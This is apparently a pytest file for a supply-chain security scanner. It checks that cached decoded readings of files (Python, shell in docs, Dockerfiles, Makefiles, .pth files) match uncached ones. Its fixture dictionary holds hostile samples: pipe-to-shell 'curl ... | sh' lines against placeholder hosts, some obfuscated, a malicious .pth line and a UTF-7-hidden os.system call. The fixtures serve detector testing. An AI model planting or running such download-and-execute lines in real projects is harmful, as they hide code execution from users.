"""The derived readings kept by content (``auditor.scan.derived.ReadingCache``) against the plain
path (:func:`auditor.scan.derived.expand` without a cache): the same targets, field for field
(key, text, line map, covers, superseded, sha256), from an empty cache and from a full one, on
every rule fixture and on files with each kind of reading; and a key that changes with anything
that can change the readings."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

import auditor
from auditor.scan import cache as cache_mod
from auditor.scan import derived, pool, pystrings
from auditor.scan.files import classify
from auditor.scan.interface import Origin, ScanTarget

ROOT = Path(auditor.__file__).resolve().parent
FIXTURES = ROOT / "policies" / "semgrep" / "fixtures"

OWN: dict[str, str] = {
    "tools/run_code.py": 'import subprocess, sys\nCODE = """\nimport os\nos.system("id")\n"""\n'
                         'subprocess.run([sys.executable, "-c", CODE])\nexec("print(1)")\n',
    "tools/coded.py": "# -*- coding: utf_7 -*-\nx = 1\n#+AAo-import os+AAo-os.system(+ACI-id+ACI-)\n",
    "site-packages/evil.pth": "/opt/lib\nimport os; os.system('curl x | sh')\n",
    "docs/install.md": "# Install\n\n```bash\ncu''rl -s https://x.example/i.sh | sh\n```\n",
    "Makefile": "all:\n\tcurl -s https://x.example/a | sh\n",
    "docker/Dockerfile": "FROM python:3.12\nRUN pip install vllm && \\\n    curl x | bash\n"
                         "RUN python3 - <<'EOF'\nimport os\nos.system('id')\nEOF\n",
    "scripts/setup.sh": "#!/bin/sh\nc=curl\n$c -s https://x.example | sh\n",
    "vllm/plain.py": "def f(x):\n    return x + 1\n",
}


def _targets() -> list[ScanTarget]:
    files = {p.relative_to(FIXTURES).as_posix(): p.read_bytes()
             for p in sorted(FIXTURES.rglob("*")) if p.is_file()}
    files.update({k: v.encode() for k, v in OWN.items()})
    out: list[ScanTarget] = []
    for path, data in files.items():
        r = classify(path, data)
        if r.text is not None:
            out.append(ScanTarget(key=f"b:{path}", path=path, origin=Origin.BUNDLE,
                                  sha256=r.sha256, family=r.family, text=r.text))
    return out


def _fields(targets: list[ScanTarget]) -> list[tuple[object, ...]]:
    return [(t.key, t.path, t.origin, t.sha256, t.family, t.text, t.derived, t.line_map,
             t.covers, t.superseded) for t in targets]


def test_cached_readings_are_the_plain_ones_cold_and_warm(tmp_path: Path) -> None:
    targets = _targets()
    plain = derived.expand(targets)
    assert len(plain) > len(targets)  # the corpus has readings of every kind
    kinds = {t.derived for t in plain if t.derived}
    assert {"python-decoded", "python-strings", "python-strings-command-lines", "pth-python",
            "docs-shell", "command-lines", "dockerfile-bash", "dockerfile-python",
            "bash+words"} <= kinds, kinds
    assert any(t.superseded for t in plain)
    cold = derived.ReadingCache(tmp_path)
    assert _fields(derived.expand(targets, cold)) == _fields(plain)
    assert (cold.hits, cold.misses) == (0, len(targets))
    warm = derived.ReadingCache(tmp_path)
    assert _fields(derived.expand(targets, warm)) == _fields(plain)
    assert (warm.hits, warm.misses) == (len(targets), 0)


def test_readings_made_in_processes_are_the_plain_ones(tmp_path: Path) -> None:
    """The readings made on two worker processes (``min_work=0``: whatever the amount), with
    and without a cache, are the ones made here, in order."""
    targets = _targets()
    plain = derived.expand(targets)
    with pool.kept():
        assert _fields(derived.expand(targets, jobs=2, min_work=0)) == _fields(plain)
        cold = derived.ReadingCache(tmp_path)
        assert _fields(derived.expand(targets, cold, jobs=2, min_work=0)) == _fields(plain)
        assert (cold.hits, cold.misses) == (0, len(targets))
        started = pool._kept[-1]
        assert 2 in started  # the work really went to the processes
    warm = derived.ReadingCache(tmp_path)
    assert _fields(derived.expand(targets, warm, jobs=2, min_work=0)) == _fields(plain)
    assert (warm.hits, warm.misses) == (len(targets), 0)


def test_a_warm_run_parses_no_python(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    targets = _targets()
    derived.expand(targets, derived.ReadingCache(tmp_path))
    calls: list[str] = []
    real = pystrings.reading
    monkeypatch.setattr(pystrings, "reading", lambda text: calls.append(text) or real(text))
    derived.expand(targets, derived.ReadingCache(tmp_path))
    assert calls == []
    derived.expand(targets)  # the plain path still reads every Python file
    assert calls


def test_a_bad_entry_is_a_miss_and_is_made_again(tmp_path: Path) -> None:
    targets = [t for t in _targets() if t.path == "tools/run_code.py"]
    plain = derived.expand(targets)
    derived.expand(targets, derived.ReadingCache(tmp_path))
    entry = derived.ReadingCache(tmp_path).store.file(derived.reading_key(targets[0]))
    for bad in ({"schema": "other", "readings": []},
                {"schema": json.loads(entry.read_text())["schema"], "readings": [{"how": 1}]},
                "not json"):
        text = bad if isinstance(bad, str) else json.dumps(
            {**bad, "key": derived.reading_key(targets[0])})
        entry.write_text(text, encoding="utf-8")
        again = derived.ReadingCache(tmp_path)
        assert _fields(derived.expand(targets, again)) == _fields(plain)
        assert (again.hits, again.misses) == (0, 1)


def test_the_key_covers_what_can_change_a_reading(monkeypatch: pytest.MonkeyPatch) -> None:
    t = next(t for t in _targets() if t.path == "tools/run_code.py")
    base = derived.reading_key(t)
    assert derived.reading_key(ScanTarget(key="other", path=t.path, origin=Origin.UPSTREAM,
                                          sha256="", family=t.family, text=t.text)) == base
    for other in (ScanTarget(key=t.key, path="tools/other.py", origin=t.origin, sha256=t.sha256,
                             family=t.family, text=t.text),
                  ScanTarget(key=t.key, path=t.path, origin=t.origin, sha256=t.sha256,
                             family="bash", text=t.text),
                  ScanTarget(key=t.key, path=t.path, origin=t.origin, sha256=t.sha256,
                             family=t.family, text=t.text + "\n")):
        assert derived.reading_key(other) != base
    # a scan module changed (or auditor's version: both are in code_digest), DIGEST changed
    monkeypatch.setattr(cache_mod, "code_digest", lambda: "changed")
    assert derived.reading_key(t) != base
    monkeypatch.undo()
    monkeypatch.setattr(derived, "DIGEST", "changed")
    assert derived.reading_key(t) != base


def test_remembered_trees_give_the_readings_fresh_ones_give(monkeypatch: pytest.MonkeyPatch) -> None:
    """``pyast.parse`` hands out the last text's tree again; the readings made with every tree
    parsed afresh (the plain path) are the same, slices and taint views included."""
    import ast

    from auditor.scan import diffslice, pyast, taintviews
    from auditor.scan import rules as rules_mod
    from auditor.scan.prefilter import Prefilter

    targets = [t for t in _targets() if t.family == "python"]
    assert len(targets) > 10
    pfs = [Prefilter(m.prefilter, m.sink_group) for m in rules_mod.load_rule_meta().values()
           if m.prefilter and m.taint]
    assert pfs

    def later_readings() -> list[object]:
        out: list[object] = []
        for t in targets:
            out.append(diffslice.slice_python(t.text, {1, 2}))
            out.append(taintviews.taint_views(t.text, [p for p in pfs if p.admits(t.text)]))
        return out

    remembered = (_fields(derived.expand(targets)), later_readings())
    again = (_fields(derived.expand(targets)), later_readings())  # a second run, the same
    text = targets[0].text
    assert pyast.parse(text) is pyast.parse(text)
    assert ast.dump(pyast.parse(text)) == ast.dump(ast.parse(text))
    monkeypatch.setattr(pyast, "parse", ast.parse)  # the plain path: a fresh tree every time
    fresh = (_fields(derived.expand(targets)), later_readings())
    assert remembered == again == fresh
